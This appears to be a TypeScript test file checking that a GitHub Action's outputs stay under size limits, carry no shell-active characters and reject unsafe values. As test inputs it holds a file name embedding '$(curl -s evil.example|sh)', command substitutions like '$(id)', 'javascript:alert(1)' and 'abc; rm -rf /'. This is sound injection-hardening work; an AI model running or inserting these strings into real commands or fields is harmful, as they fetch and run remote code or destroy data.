// Issue 16 row 8: the action's outputs are safe to consume. `report` stays well under GitHub's 1 MB job
// output limit (summarised beyond 256 KiB, saying so, still valid against the schema); the JSON outputs
// carry no shell-active character, yet parse back to exactly the paths and the report.
import { readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { analyze } from '../../src/analyze/index.js';
import { MAX_REPORT_OUTPUT_BYTES, outputsOf, shellInertJson } from '../../src/github/publish.js';
import type { Report } from '../../src/types.js';
import { C3, changeSet, file, finding, hunk } from '../analyze/helpers.js';
import { validate } from '../report/schema-validator.js';

const root = join(dirname(fileURLToPath(import.meta.url)), '..', '..');
const schema = JSON.parse(readFileSync(join(root, 'schema', 'report.schema.json'), 'utf8'));

const HOSTILE = 'src/$(curl -s evil.example|sh)`id`\'";x&y>z\n#{a}!*?[b]~.ts';

function report(findings: number, excerptLines: number): Report {
  const fs = Array.from({ length: findings }, (_, i) =>
    finding({
      kind: 'test-failure',
      message: `expected ${i} to be ${i + 1} ${'x'.repeat(200)}`,
      file: HOSTILE,
      line: 3,
      logLines: [i * 10 + 1, i * 10 + 5],
      excerpt: Array.from({ length: excerptLines }, (_, k) => `line ${k} ${'y'.repeat(300)}`),
    }),
  );
  return analyze({
    findings: fs,
    patterns: [],
    changeSet: changeSet([file(HOSTILE, [hunk(1, [[3, 'a']], [], C3)])], [{ sha: C3, subject: 'x' }]),
  });
}

test('the report output is summarised under 256 KiB, says so, and stays valid', () => {
  const big = report(3000, 15);
  expect(Buffer.byteLength(JSON.stringify(big))).toBeGreaterThan(8 * 1024 * 1024);
  const out = outputsOf(big);
  expect(Buffer.byteLength(out.report)).toBeLessThanOrEqual(MAX_REPORT_OUTPUT_BYTES);
  const parsed = JSON.parse(out.report) as Report;
  expect(validate(schema, parsed)).toEqual([]);
  expect(parsed.verdict).toEqual(big.verdict);
  expect(parsed.findings.length).toBeGreaterThan(0);
  expect(parsed.notes.at(-1)).toMatch(
    /^The report output was summarised to stay under 256 KiB \(log excerpts/,
  );
  // a small report is left whole
  const small = report(2, 2);
  expect(JSON.parse(outputsOf(small).report)).toEqual(JSON.parse(JSON.stringify(small)));
});

test('the JSON outputs hold no shell-active character, and parse back to the exact values', () => {
  const r = report(1, 1);
  const out = outputsOf(r);
  for (const v of [out.suspects, out.report]) {
    // only JSON's own punctuation is left: no $ ` ' ; | & < > ( ) { } ! * ? # ~ [ ] inside strings, no newline
    const strings = v.match(/"(?:[^"\\]|\\.)*"/g) ?? [];
    for (const s of strings) expect(s.slice(1, -1)).not.toMatch(/[$`';|&<>(){}!*?#~[\]\n]|\\"|\\\\/);
  }
  expect(JSON.parse(out.suspects)).toEqual([HOSTILE]);
  expect(JSON.parse(out.report).findings[0].file).toBe(HOSTILE);
  expect(shellInertJson({ a: 'b\\"c', d: ['$x'] })).toBe('{"a":"b\\u005c\\u0022c","d":["\\u0024x"]}');
});

test('verdict, comment-url and last-green-sha are validated', () => {
  const r = report(1, 1);
  r.verdict.origin = 'x$(id)' as never;
  const out = outputsOf(r, 'javascript:alert(1)', 'abc; rm -rf /');
  expect(out.verdict).toBe('unknown');
  expect(out['comment-url']).toBe('');
  expect(out['last-green-sha']).toBe('');
  expect(
    outputsOf(report(1, 1), 'https://github.com/o/r/pull/1#issuecomment-2', 'a'.repeat(40)),
  ).toMatchObject({
    'comment-url': 'https://github.com/o/r/pull/1#issuecomment-2',
    'last-green-sha': 'a'.repeat(40),
  });
});
